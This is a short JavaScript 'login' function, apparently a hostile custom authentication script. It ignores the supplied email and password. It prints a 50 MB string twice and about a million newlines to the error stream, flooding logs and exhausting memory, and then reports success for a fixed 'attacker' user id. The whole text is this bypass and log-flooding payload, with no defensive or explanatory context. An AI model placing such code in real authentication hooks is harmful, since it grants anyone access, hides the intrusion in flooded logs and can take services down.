function login(email, password, callback) {
  const line = 'x'.repeat(50 << 20);
  console.log(line);
  console.error('\n'.repeat(1 << 20));
  console.log('%s', line);
  callback(null, { user_id: 'attacker' });
}
